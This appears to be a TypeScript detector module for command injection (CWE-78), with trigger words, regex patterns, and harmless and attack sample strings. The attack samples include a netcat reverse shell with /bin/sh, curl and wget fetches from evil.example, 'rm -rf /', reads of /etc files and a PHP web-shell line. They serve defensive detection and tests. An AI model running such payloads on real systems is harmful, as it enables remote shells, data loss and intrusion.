// Commands of a shell behind what separates commands, and functions of languages that run commands. Names of commands are often English words, so
// those that are must have what a command has: a path, an option, a number where it takes one.

import { type AttackClass, firstOf, type Shape, sure } from '../kit.ts'

export const commandInjection: AttackClass = {
  id: 'command-injection',
  cwe: 'CWE-78',
  why: 'A value that reaches a shell runs whatever command it holds.',
  triggers: [
    ';',
    '|',
    '&',
    '`',
    '$',
    '\n',
    '\r',
    '<(',
    '>(',
    'cmd',
    'exec',
    'system',
    '/bin/',
    '/etc/',
    'passthru',
    'eval',
    'print',
    'import',
    'powershell',
    'phpinfo',
    '() {',
    '(){',
    'child_process',
    'runtime',
    'nc ',
    'wget ',
    'curl ',
    'ping ',
    'response.',
    '<?',
    'dir ',
    'dir+',
    'ls -',
    'sleep',
    'ping.',
    'pconfig',
    'ifconfig',
    '\\n',
    'base64_decode',
    'file_get',
    'assert(',
  ],
  find(text, lower) {
    return (mayHaveShape(lower) ? firstOf(lower, commandShapes) : null) ?? separated(text, lower) ?? alone(lower)
  },
  attacks: [
    '; cat /etc/hosts',
    '8.8.8.8 && whoami',
    '| nc 192.0.2.7 4444 -e /bin/sh',
    '`id`',
    '$(curl http://evil.example/x)',
    'a.txt; rm -rf /',
    '& ping -n 9 127.0.0.1 &',
    ";c'a't /etc/group",
    '() { :; }; /usr/bin/id',
    "__import__('os').system('id')",
    '<?php system($_GET[1]); ?>',
    'x\nwget http://evil.example/a.sh',
    ';/usr/bin/id',
    '|id',
    'a$(sleep${IFS}9)b',
  ],
  harmless: [
    'Oxygen & Sleep Associates',
    'mammal;cat;ears',
    'echo in the mirror',
    'Run `ls -la` in the folder, then `cat README.md`.',
    'pip install a && python main.py',
    'cat notes.txt | sort | head -5',
    'Barnes & Noble; Find & Sort',
    'time; date; who knows',
    'nc 8000 controller',
  ],
}

/** What is no English word, or hardly one, and a command all the same. */
export const unmistakable = new Set(
  'whoami uname ifconfig ipconfig netstat wget curl lwp-download bash zsh ksh csh tcsh sh dash chmod chown nslookup traceroute tracert systeminfo tasklist taskkill getent printenv crontab nohup telnet ssh scp ftp tftp ncat netcat socat powershell pwsh cmd cmd.exe powershell.exe wmic regsvr32 certutil bitsadmin mshta rundll32 cscript wscript gcc useradd passwd ls ps rm cp mv pwd ping ping6 lsof mkdir rmdir awk gawk sed grep egrep python python2 python3 perl ruby php node nodejs dig xxd base64 openssl tcpdump nmap sudo phpinfo netsh arp ifdown id getuid vol ver hostname uptime df du mkfifo mknod busybox rev printf expr usleep w'.split(
    ' ',
  ),
)
/** English words as well: they need what a command has. */
export const ambiguous = new Set(
  'cat more less sleep find sort who time date head tail cut test set type copy move echo kill at dir env host top touch make man mail last watch write read wait sc net reg start del nc print export source eval exec tee cd strings file split join link nice open view look timeout history alias finger route rename fc while if for'.split(
    ' ',
  ),
)
const needsArgument = new Set(
  'rm cp mv mkdir rmdir sh python perl ruby php node awk sed grep dig chmod chown ssh ftp du df w ver vol ps printf expr rev hostname base64 passwd make php id'.split(
    ' ',
  ),
)

/** Signs and words of which each of the shapes has one; sentences have none. */
export const mayHaveShape = (lower: string): boolean =>
  /[(<>$/|_=%[\\-]|\.[a-z]|processbuilder|mkfifo|net\s|systeminfo|tasklist|then\s/.test(lower)

export const commandShapes: readonly (readonly [RegExp, string])[] = [
  [/\(\s{0,3}(?:%00)?\s{0,3}\)\s{0,3}\{[^}]{0,80}(?:\}|$|<<|>|;)[^\n]{0,20}(?:;|>|<<|bash|echo|\{)/, 'a function for a shell'],
  [/\(\)\s{0,3}\{\s?(?:_|:|0|test|x|foo|function)\b/, 'a function for a shell'],
  [/<\?(?:php|=|\s*(?:system|echo|eval))|<%\s?(?:eval|execute|response)/, 'code of a page'],
  [
    /\b(?:system|passthru|shell_exec|proc_open|popen|pcntl_exec|phpinfo|assert|base64_decode|file_get_contents|call_user_func|create_function|preg_replace|gzinflate|str_rot13)\s?\(\s?["'`$)(\\a-z@]/,
    'a function that runs something',
  ],
  [
    /\bexec\s?\(\s?(?:["'`]|print|\$|base64|\))|\bprint\s?\(\s?(?:`|system|exec|md5\s?\()|@print\s?\(|\beval\s?\(\s?(?:["'`$]|base64|request|_?post|_?get)/,
    'a function that runs something',
  ],
  [
    /__import__\s?\(|\bos\.(?:system|popen|exec[lv]p?e?)\s?\(|\bsubprocess\.(?:popen|call|run|check_output)\s?\(|\bexecfile\s?\(|__(?:globals|builtins|subclasses|mro|class|base)__/,
    'Python that runs something',
  ],
  [/child_process|process\.(?:mainmodule|binding|env)|\brequire\s?\(\s?["'](?:fs|os|net|child)/, 'JavaScript that runs something'],
  [
    /runtime(?:\(\))?\.(?:getruntime|exec)|processbuilder|java\.lang\.(?:runtime|processbuilder|system|class)|freemarker\.template|getclass\(\)\s?\.|\bclass\.forname\s?\(/,
    'Java that runs something',
  ],
  [/ev\s?al\s?\(\s?["'(]|response\.write\s?\(|server\.scripttimeout|wscript\.shell|createobject\s?\(/, 'script of a server'],
  [/\$\{ifs\}|\$ifs\b|\$ifs\$|\$\(\(\s?\d|\$\{?@\}?print/, 'a sign of a shell'],
  [
    /(?:^|[\s;|&`("'=,>])\/(?:usr\/)?s?(?:bin|local\/bin)\/(?:ba|z|k|c|tc|da)?(?:sh|cat|id|ls|nc|ps|wget|curl|ping|uname|whoami|env|echo|sleep|python\d?|perl|ruby|rm|touch|netcat|ifconfig|eject|tail|head|more|less|telnet|chmod)\b/,
    'a program by its path',
  ],
  [
    /\/(?:\?{1,3}|\[[a-z?]\]|[a-z]\*|\*){1,6}[a-z?*]*\/[a-z?*[\]]{2,}(?:\s|$)|\$\{?\w{0,12}\}?\/(?:bin|etc)|\$[a-z]{1,9}\/(?:bin|etc)/,
    'a path by signs of a shell',
  ],
  [
    /[<>]\s?\/dev\/(?:tcp|udp)|\bnc\s+(?:-[a-z]+\s+)*[\w.-]*\s?-?\d*\s?-e\b|-e\s?\/bin\/(?:ba)?sh|\|\s?(?:ba|z)?sh\b|mkfifo\s|bash\s+-[ic]/,
    'a shell for somebody else',
  ],
  [
    /(?:^|["'`|;&\n(]\s?)(?:net\s+(?:user|localgroup|view|share)|cmd(?:\.exe)?\s?\/[ck]|powershell(?:\.exe)?\s+-|type\s+(?:%|c:|\\)|dir\s+[a-z]:\\|set\s+\/a|ipconfig\s?\/|systeminfo\b|tasklist\b)/,
    'a command of Windows',
  ],
  [/\bcmd=|\bc:[\\/](?:windows|winnt|boot\.ini|documents)|%(?:systemroot|windir|programfiles|comspec)%/, 'a command of Windows'],
  [
    /\b(?:perl|python\d?|ruby|php)\s+-[cer]\s|\bmail\s+-s\s|\b(?:cat|more|less|head|tail|strings|od|xxd|nl|tac)\s*(?:<\s*)?["'\\$@{}\w]*\/[^\s]*(?:etc|e\\?t|proc|passwd|hosts|shadow)/,
    'a command that reads a file of the system',
  ],
  [
    /\bgethostbyname\s?\(|\busleep\s?\(|\bfwrite\s?\(|\bfopen\s?\(|\bmove_uploaded_file\b|\$_(?:get|post|request|cookie|server)\b/,
    'code of a page',
  ],
  [/\bstr=\$\(|\$\{#\w+\}|\bif \[ |\bthen (?:sleep|echo) \d|\|\|\s?sleep\b/, 'a script of a shell'],
]

const parts = new Uint8Array(128)
for (const sign of ';|&`\n\r$<>({') parts[sign.charCodeAt(0)] = 1
const ofWords = new Uint8Array(128)
for (const sign of 'abcdefghijklmnopqrstuvwxyz0123456789._-') ofWords[sign.charCodeAt(0)] = 1

function separated(text: string, lower: string): Shape | null {
  const begins = firstWord(lower, 0).word
  // Somebody who shows a command begins with it; what is put behind a value does not.
  const isShown =
    (unmistakable.has(begins) ||
      ambiguous.has(begins) ||
      /^(?:npm|npx|git|pip|pip3|uv|docker|kubectl|make|go|cargo|apt|apt-get|brew|yarn|pnpm|helm|terraform|uvicorn|pytest|export)$/.test(
        begins,
      )) &&
    /^\S+\s+\S/.test(lower)
  for (let at = 0; at < lower.length; at++) {
    if (parts[lower.charCodeAt(at)] !== 1) continue
    const sign = lower[at] ?? ''
    const isSubstitution = (sign === '$' || sign === '<' || sign === '>') && lower[at + 1] === '('
    if (sign === '`') {
      if (isMarked(text, at)) continue
    } else if ((sign === '$' || sign === '<' || sign === '>' || sign === '(' || sign === '{') && !isSubstitution) continue
    if (isShown && !isSubstitution) continue
    let from = at + 1
    while (from < at + 24 && from < lower.length && ' \t;|&`($"\'\\{\n\r+'.includes(lower[from] ?? '')) from++
    const { word, end, isHidden } = firstWord(lower, from)
    if (word === '') continue
    const written = text.slice(from, from + 1)
    // English sentences write them large.
    if (written !== written.toLowerCase() && text !== text.toUpperCase() && !isHidden) continue
    const glued = from === at + 1 || isSubstitution || (from === at + 2 && sign === lower[at + 1])
    const rest = lower.slice(end, end + 80)
    if (sign === '\n' || sign === '\r') {
      if (
        unmistakable.has(word) &&
        /^(?:\s+(?:-|\/|http|\d+\.)|\s*$)/.test(rest) &&
        at < 60 &&
        !lower.slice(0, at).includes('```') &&
        lower.split('\n').length < 4
      )
        return sure('a command on a line of its own')
      continue
    }
    if (isHidden && (unmistakable.has(word) || ambiguous.has(word))) return sure('a command in pieces')
    if (unmistakable.has(word)) {
      if (!needsArgument.has(word) || isSubstitution || sign === '`' || looksLikeArgument(rest)) return sure(`the command ${word}`)
      if (glued && (word.length > 2 || /^(?:id|ls|ps|rm|cp)$/.test(word)) && /^\s*(?:$|[;|&`)#"'\\\n])/.test(rest))
        return sure(`the command ${word}`)
    } else if (
      ambiguous.has(word) &&
      (looksLikeArgument(rest) ||
        ((isSubstitution || sign === '`') && /^\s/.test(rest)) ||
        ((word === 'dir' || word === 'set' || word === 'env') && /^\s*(?:$|[;|&`)"'\\])/.test(rest) && (glued || sign === '|')))
    )
      return sure(`the command ${word}`)
    else if (isSubstitution && /^[a-z]{2,12}\s?[)'"-]/.test(`${word}${rest}`) && lower[at] === '$') return sure('a command in its place')
  }
  return null
}

/** Of a command that stands alone: only where it does what nobody shows. */
function alone(lower: string): Shape | null {
  return /^[;|&\s]{1,4}(?:id|dir|ls|ps|pwd|whoami|env|set|date|uptime|hostname)[;|&\s]{0,3}$|^[^a-z]{0,8}dir[\s+|]{1,3}[a-z]:|\bping\.exe\s{1,3}-n|^[`"']?\s{0,3}ls\s+-[a-z]+\s+\/\w*\/?\s*$|^\\n(?:id|ls|whoami)\\n$|^\s*(?:ip|if)config(?:\s*\/all)?\s*$|\\n\/usr\/bin\/|\|(?:usr|bin)\/\w|^(?:["']|\s)*(?:cat|type|more|less|head|tail|nl)\s+(?:\/etc\/|\/proc\/|[a-z]:\\)|^\s*(?:nc|ncat|netcat)\s+-[a-z]*[lec]|^\s*ping\s+-[cnit]\s*\d|^\s*(?:wget|curl)\s+(?:-\S+\s+)*https?:\/\/\S+\s*(?:;|\||&&|-o\s*\/tmp)/.test(
    lower,
  )
    ? sure('a command')
    : null
}

const looksLikeArgument = (rest: string): boolean =>
  /^\s*(?:(?:\/|\\|~|\.{1,2}\/|[a-z]:\\|\$|%|<|>|\||&)\S|-{1,2}[a-z0-9]|["'`]?\d+(?:\.\d+)*["'`]?\s*(?:$|[;|&`)#"'\\\n])|https?:|[\w.-]+\/[\w./-]+|%[0-9a-f]{2}|\$ifs|\+\/)/.test(
    rest,
  )

/** A word between back-quotes within prose, as Markdown marks it. */
function isMarked(text: string, at: number): boolean {
  const close = text.indexOf('`', at + 1)
  const before = text.slice(0, at)
  if (before.endsWith('`') || text[at + 1] === '`') return true
  const isClosing = (before.match(/`/g)?.length ?? 0) % 2 === 1
  if (isClosing) return true
  return close !== -1 && /\w[\w,.:)]*\s+$/.test(before) && /^(?:$|[\s.,;:?!)])/.test(text.slice(close + 1))
}

/** With what a shell takes away: quotes within, backslashes, empty variables. */
export function firstWord(lower: string, from: number): { word: string; end: number; isHidden: boolean } {
  let word = ''
  let isHidden = false
  let at = from
  for (; at < lower.length && word.length < 24; at++) {
    const sign = lower[at] ?? ''
    if (ofWords[lower.charCodeAt(at)] === 1) word += sign
    else if (/["'\\^]/.test(sign) && word !== '' && /[a-z0-9"'\\]/.test(lower[at + 1] ?? '')) isHidden = true
    else if (
      sign === '$' &&
      word !== '' &&
      /^\$(?:@|\d|\*|\{[a-z0-9@]{0,8}\})/.test(lower.slice(at, at + 10)) &&
      /[a-z]/.test(lower[at + 2] ?? '')
    ) {
      isHidden = true
      at += /^\$\{/.test(lower.slice(at, at + 2)) ? lower.indexOf('}', at) - at : 1
    } else break
  }
  return { word, end: at, isHidden }
}
